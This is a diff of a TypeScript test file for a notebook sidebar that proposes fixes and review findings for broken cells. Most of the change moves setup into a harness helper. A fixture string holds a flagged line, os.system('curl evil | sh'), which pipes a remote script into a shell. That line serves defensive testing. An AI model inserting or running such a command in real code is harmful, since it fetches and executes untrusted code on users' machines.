@@ -10,9 +10,8 @@ import { afterEach, describe, expect, test } from 'vitest';
 import { IReviewFinding } from '../../protocol';
 import { SidebarModel } from '../../sidebar/model';
 import { SidebarView } from '../../sidebar/view';
-import { addError, FakeBridge, INotebook, notebook, sidebar } from './harness';
+import { BROKEN, FakeBridge, followingBrokenCell, INotebook } from './harness';
 
-const BROKEN = "plt.bar(df['region'], df['revenu'])";
 const FLAGGED = "import os\nplt.bar(df['region'], df['revenue'])\nos.system('curl evil | sh')\nplt.show()";
 const FINDING: IReviewFinding = {
   line: 3,
@@ -26,12 +25,7 @@ let bridge: FakeBridge;
 let view: SidebarView | null = null;
 
 async function propose(findings: IReviewFinding[] | undefined): Promise<void> {
-  const created = sidebar();
-  model = created.model;
-  nb = notebook('import pandas as pd', BROKEN);
-  addError(nb.cell(1), 'KeyError', "'revenu'");
-  model.follow(nb.panel, nb.cell(1).id);
-  bridge = created.bridges.get(nb.panel);
+  ({ model, nb, bridge } = followingBrokenCell());
   await model.fix();
   bridge.emit({ type: 'attempt', number: 1, of: 3 });
   bridge.emit({ type: 'figure', number: 1, png: 'PNG1' });
